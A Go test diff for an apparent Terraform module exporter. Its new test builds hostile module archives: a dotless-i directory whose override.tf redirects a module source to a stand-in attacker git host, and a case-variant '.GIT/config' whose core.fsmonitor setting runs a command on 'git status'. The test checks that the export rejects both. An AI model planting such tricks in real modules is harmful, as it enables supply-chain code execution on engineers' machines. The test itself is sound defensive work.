@@ -104,7 +104,7 @@ func TestHostileExportForExpressionBomb(t *testing.T) {
 		return "--from " + dir
 	}
 	for name, tc := range map[string]struct{ manifest, want string }{
-		"registry module": {"module \"evil/bomb/aws\" {}\n", "main.tf:3:"},
+		"registry module":  {"module \"evil/bomb/aws\" {}\n", "main.tf:3:"},
 		"variable default": {project(map[string]string{"main.tf": "variable \"v\" {\n  const = true\n  default = " + bomb + "\n}\nmodule \"m\" {\n  source = var.v\n}\n"}), "main.tf:3:"},
 		"tfvars": {project(map[string]string{"main.tf": "variable \"v\" {\n  const = true\n}\nmodule \"m\" {\n  source = var.v\n}\n",
 			"terraform.tfvars": "v = " + bomb + "\n"}), "terraform.tfvars:1:"},
@@ -148,4 +148,45 @@ func TestHostileExportGitDeltaBomb(t *testing.T) {
 			}
 		})
 	}
+}
+
+// Findings (medium, low) on names that fold: a module archive holding
+// "modules/infra" (the directory main.tf calls) and "modules/ınfra" with a
+// dotless i — one directory on Windows, whose NTFS upcases "ı" to "I" —
+// was exported with only the good call read, while on an engineer's
+// Windows machine the override.tf of the other merges in and switches the
+// call's source; Cherokee letters in either case passed the same way
+// (x/text's folding swaps them). And a ".GIT" directory (".git" in upper
+// case, or ".gıt") was carried into the bundle: on macOS and Windows it is
+// the installed module's git directory, whose config git runs
+// (core.fsmonitor) on the first "git status" there.
+func TestHostileExportNamesThatFold(t *testing.T) {
+	f := newExportFixture(t)
+	f.in.AddModule("registry.terraform.io", "evil", "dotless", "aws", "1.0.0", f.in.AddArchive(t, "dotless.tar.gz", map[string]string{
+		"main.tf":                        "module \"infra\" {\n  source = \"./modules/infra\"\n}\n",
+		"modules/infra/main.tf":          "# the reviewed module\n",
+		"modules/\u0131nfra/override.tf": "module \"x\" {\n  source = \"git::https://attacker.example/evil.git\"\n}\n"}))
+	f.in.AddModule("registry.terraform.io", "evil", "cherokee", "aws", "1.0.0", f.in.AddArchive(t, "cherokee.tar.gz", map[string]string{
+		"\u13cc.tf": "# one\n", "\uab9c.tf": "# two\n"}))
+	f.in.AddModule("registry.terraform.io", "evil", "dotgit", "aws", "1.0.0", f.in.AddArchive(t, "dotgit.tar.gz", map[string]string{
+		"main.tf": "# ok\n", ".GIT/config": "[core]\n\tfsmonitor = touch /tmp/owned-by-airgap-test\n", ".GIT/HEAD": "ref: refs/heads/main\n",
+		"sub/.g\u0131t/config": "[core]\n\tfsmonitor = touch /tmp/owned-by-airgap-test\n"}))
+	for _, m := range []string{"evil/dotless/aws", "evil/cherokee/aws"} {
+		t.Run(m, func(t *testing.T) {
+			out, _, _, err := f.export(t, "module \""+m+"\" {}\n")
+			if err == nil || !strings.Contains(out, "are one entry on some file systems") {
+				t.Errorf("export carried names that are one file on Windows or macOS (err %v):\n%s", err, out)
+			}
+		})
+	}
+	t.Run("evil/dotgit/aws", func(t *testing.T) {
+		cache := t.TempDir() // a later --cache wins
+		out, _, _, err := f.export(t, "module \"evil/dotgit/aws\" {}\n", "--cache", cache)
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		if gzContains(t, cache, "fsmonitor") || !gzContains(t, cache, "# ok") {
+			t.Errorf("the module's archive carries a .git directory spelled otherwise (or lacks main.tf)")
+		}
+	})
 }
